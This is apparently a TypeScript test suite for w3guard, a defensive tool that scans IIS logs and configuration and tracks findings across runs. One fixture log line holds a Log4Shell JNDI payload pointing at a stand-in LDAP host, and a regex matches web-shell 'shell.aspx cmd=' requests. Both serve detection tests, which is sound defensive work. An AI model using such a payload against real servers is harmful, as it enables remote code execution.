import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { REPO_ROOT, runCli, runCliJson } from './run-cli.js';
import { postgresDown, withSchema } from './test-postgres.js';

interface Report {
  findings: { fingerprint: string; ruleId: string; locationKey: string; status?: string }[];
}

const EXAMPLE = resolve(REPO_ROOT, 'examples/u_ex240311.log');
const HOST = resolve(REPO_ROOT, 'src/formats/iis-config/fixtures/happy/two-sites');
const CONTRACT = resolve(REPO_ROOT, '..', 'shared', 'contracts', 'finding-report.schema.json');
const SHELL_LINES = /shell\.aspx cmd=/;

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'w3guard-store-cli-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const json = (args: readonly string[]): { code: number; report: Report; stderr: string } => runCliJson<Report>(args);

function statuses(report: Report): Record<string, string | undefined> {
  return Object.fromEntries(report.findings.map((f) => [`${f.ruleId} ${f.locationKey}`, f.status]));
}

describe('w3guard hunt --db, findings and suppress', () => {
  it('records three runs over changed logs: new; then fixed, new, open; then reopened', () => {
    const db = join(folder, 'w3guard.db');
    const log = join(folder, 'u_ex240311.log');
    const original = readFileSync(EXAMPLE, 'utf8');
    writeFileSync(log, original);
    const first = json(['hunt', log, '--db', db]);
    expect(first.code, first.stderr).toBe(0);
    expect(new Set(Object.values(statuses(first.report)))).toEqual(new Set(['new']));
    expect(first.report.findings.length).toBeGreaterThanOrEqual(6);

    // The web shell's requests are gone from the logs; a new Log4Shell probe from another address arrived.
    const lines = original.split('\n');
    lines.splice(11, 0, '2024-03-11 01:20:00 10.30.0.10 GET / x=${jndi:ldap://203.0.113.99:1389/a} 80 - 203.0.113.99 curl/8.4.0 - www.contoso.example 200 0 0 3');
    writeFileSync(log, `${lines.filter((line) => !SHELL_LINES.test(line)).join('\n')}`);
    const second = json(['hunt', log, '--db', db]);
    const s2 = statuses(second.report);
    expect(s2['w3g-web-webshell-request 203.0.113.77']).toBe('fixed');
    expect(s2['w3g-web-shell-commands 203.0.113.77']).toBe('fixed');
    expect(s2['w3g-web-log4shell-jndi 203.0.113.99']).toBe('new');
    expect(s2['w3g-web-log4shell-jndi 203.0.113.9']).toBe('open');
    expect(second.stderr).toMatch(/recorded: 2 fixed, 0 suppressed/);

    // A run over part of the logs (--since) closes nothing, although it found nothing.
    const partial = json(['hunt', log, '--db', db, '--since', '2030-01-01']);
    expect(partial.report.findings).toEqual([]);
    expect(partial.stderr).toMatch(/recorded: 0 fixed/);

    writeFileSync(log, original);
    const third = json(['hunt', log, '--db', db]);
    const s3 = statuses(third.report);
    expect(s3['w3g-web-webshell-request 203.0.113.77']).toBe('reopened');
    expect(s3['w3g-web-shell-commands 203.0.113.77']).toBe('reopened');
    expect(s3['w3g-web-log4shell-jndi 203.0.113.99']).toBe('fixed');
    expect(s3['w3g-web-log4shell-jndi 203.0.113.9']).toBe('open');

    const reopened = json(['findings', '--db', db, '--status', 'reopened']);
    expect(reopened.report.findings.map((f) => f.ruleId).sort()).toEqual(['w3g-web-shell-commands', 'w3g-web-webshell-request']);
    const fixed = runCli(['findings', '--db', db, '--status', 'fixed', '--format', 'csv']);
    expect(fixed.code).toBe(0);
    expect(fixed.stdout).toMatch(/w3g-web-log4shell-jndi,[^\r\n]*203\.0\.113\.99/);

    if (existsSync(CONTRACT)) {
      const ajv = new Ajv2020({ allErrors: true, strict: false });
      addFormats.default(ajv);
      const validate = ajv.compile(JSON.parse(readFileSync(CONTRACT, 'utf8')) as object);
      const report: unknown = JSON.parse(runCli(['hunt', log, '--db', db, '--format', 'json']).stdout);
      expect(validate(report), JSON.stringify(validate.errors)).toBe(true);
    }
  });

  it('suppresses a finding until a date: out of the output and the exit code, listed with --status suppressed', () => {
    const db = join(folder, 'w3guard.db');
    const first = json(['hunt', EXAMPLE, '--db', db]);
    const chain = first.report.findings.filter((f) => f.ruleId === 'w3g-web-telerik-rau-chain');
    expect(chain).toHaveLength(1);
    const fingerprint = chain[0]?.fingerprint ?? '';
    const suppress = runCli(['suppress', fingerprint, '--reason', 'scanner we hired', '--until', '2099-03-01', '--author', 'alice', '--db', db]);
    expect(suppress.code, suppress.stderr).toBe(0);
    expect(suppress.stdout).toMatch(new RegExp(`^suppression 1: ${fingerprint} until 2099-03-01T00:00:00\\.000Z\\n$`));

    const again = json(['hunt', EXAMPLE, '--db', db]);
    expect(again.report.findings.map((f) => f.fingerprint)).not.toContain(fingerprint);
    expect(again.stderr).toMatch(/1 suppressed/);
    expect(json(['hunt', EXAMPLE, '--db', db, '--show-suppressed']).report.findings.map((f) => f.fingerprint)).toContain(fingerprint);
    // The Telerik exploit chain is the example's only critical finding: suppressed, it no longer fails the run.
    expect(runCli(['hunt', EXAMPLE, '--fail-on', 'critical', '--format', 'json']).code).toBe(1);
    expect(runCli(['hunt', EXAMPLE, '--db', db, '--fail-on', 'critical', '--format', 'json']).code).toBe(0);

    expect(json(['findings', '--db', db, '--status', 'suppressed']).report.findings.map((f) => f.fingerprint)).toEqual([fingerprint]);
    expect(json(['findings', '--db', db]).report.findings.map((f) => f.fingerprint)).not.toContain(fingerprint);

    const bad = [
      ['suppress', fingerprint, '--db', db],
      ['suppress', 'f'.repeat(32), '--reason', 'x', '--db', db],
      ['suppress', fingerprint, '--reason', 'x', '--until', '2001-01-01', '--db', db],
      ['findings', '--db', join(folder, 'no', 'such', 'folder', 'x.db')],
    ];
    for (const args of bad) {
      const run = runCli(args);
      expect(run.code, args.join(' ')).toBe(2);
      expect(run.stderr.trim().split('\n'), run.stderr).toHaveLength(1);
    }
  });
});

const postgresDownReason = await postgresDown('PostgreSQL CLI test');

/** Three audits of a host whose configuration is fixed, then broken again. */
function auditThreeTimes(db: string): void {
  const host = join(folder, 'host');
  cpSync(HOST, host, { recursive: true });
  const config = join(host, 'Windows/System32/inetsrv/Config/applicationHost.config');
  const original = readFileSync(config, 'utf8');
  expect(original).toContain('<httpErrors errorMode="Detailed" />');
  const key = (f: Report['findings'][number]): boolean => f.ruleId === 'w3g-cis-iis10-3.4-detailed-errors-local-only';

  const first = json(['audit', host, '--db', db]);
  expect(first.report.findings.filter(key).map((f) => f.status)).toEqual(['new']);
  const total = first.report.findings.length;

  writeFileSync(config, original.replace('<httpErrors errorMode="Detailed" />', '<httpErrors errorMode="Custom" />'));
  const second = json(['audit', host, '--db', db]);
  expect(second.report.findings.filter(key).map((f) => f.status)).toEqual(['fixed']);
  expect(second.report.findings.filter((f) => !key(f)).every((f) => f.status === 'open')).toBe(true);
  expect(second.report.findings).toHaveLength(total);

  writeFileSync(config, original);
  const third = json(['audit', host, '--db', db]);
  expect(third.report.findings.filter(key).map((f) => f.status)).toEqual(['reopened']);
  expect(third.report.findings).toHaveLength(total);
}

describe('w3guard audit --db', () => {
  it('closes a configuration finding the next audit no longer fails, and reopens it when it comes back (SQLite file)', () => {
    auditThreeTimes(join(folder, 'w3guard.db'));
  });

  it.skipIf(postgresDownReason !== undefined)('does the same in PostgreSQL, named by a postgres:// URL', async () => {
    await withSchema((url) => auditThreeTimes(url));
  });
});
